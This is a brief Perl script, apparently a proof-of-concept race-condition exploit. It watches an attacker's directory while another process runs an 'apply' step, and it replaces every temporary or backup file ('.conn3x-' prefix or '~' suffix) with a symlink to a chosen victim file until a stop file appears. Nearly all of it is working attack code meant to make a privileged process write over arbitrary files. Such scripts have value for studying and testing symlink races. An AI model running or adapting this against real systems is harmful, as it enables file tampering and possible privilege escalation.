# Runs beside an apply, in the attacker's directory: whatever appears there under a temporary name is turned to a link to the
# victim at once, and what is a backup as well.
# perl swap-temporary.pl DIRECTORY VICTIM STOP: until a file STOP is there.
use strict;
my ($directory, $victim, $stop) = @ARGV;
chdir $directory or die;
until (-e $stop) {
  opendir my $all, "." or die;
  for my $name (readdir $all) {
    next if $name !~ /^\.conn3x-|~$/ || -l $name;
    rename $name, "taken" and symlink $victim, $name;
  }
  closedir $all;
}
